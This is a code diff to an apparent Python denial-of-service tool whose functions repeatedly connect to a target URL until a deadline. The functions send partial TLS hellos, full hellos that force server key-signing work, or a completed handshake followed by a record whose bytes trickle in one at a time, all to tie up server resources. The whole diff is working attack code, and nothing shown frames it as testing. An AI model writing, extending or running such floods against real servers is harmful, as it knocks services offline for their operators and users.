@@ -8,7 +8,7 @@ import time
 from contextlib import suppress
 from typing import Callable
 
-from sockets import PING, TEXT, UPGRADE, connected, frame, request, web_socket
+from sockets import PING, TEXT, UPGRADE, client_hello, connected, frame, request, shake_hands, web_socket
 
 Flood = Callable[[str, float], None]
 
@@ -118,11 +118,26 @@ def slow_heads(url: str, until: float) -> None:
         del ends[:-1000]
 
 
-def half_handshakes(url: str, until: float) -> None:
-    """What TLS begins with, and no more."""
+def half_hellos(url: str, until: float) -> None:
+    """What TLS begins with, and then its bytes one by one."""
     hello = bytes.fromhex("160301020001")
-    secure = url.replace("http://", "tcp://").replace("https://", "tcp://")
-    _halves(secure, until, lambda _: hello, b"\x00")
+    _halves(url.replace("https://", "tcp://"), until, lambda _: hello, b"\x00")
+
+
+def half_handshakes(url: str, until: float) -> None:
+    """A whole hello: the server makes a key, signs, and waits for the rest."""
+    _halves(url.replace("https://", "tcp://"), until, lambda _: client_hello(), b"")
+
+
+def half_records(url: str, until: float) -> None:
+    """A whole handshake, and then the bytes of a record one by one."""
+    plain = url.replace("https://", "tcp://")
+    while time.monotonic() < until:
+        with suppress(OSError), connected(plain) as end:
+            shake_hands(end)
+            end.sendall(bytes.fromhex("1703034000"))
+            while time.monotonic() < until:
+                end.sendall(b"x")
 
 
 def requests(url: str, until: float) -> None:
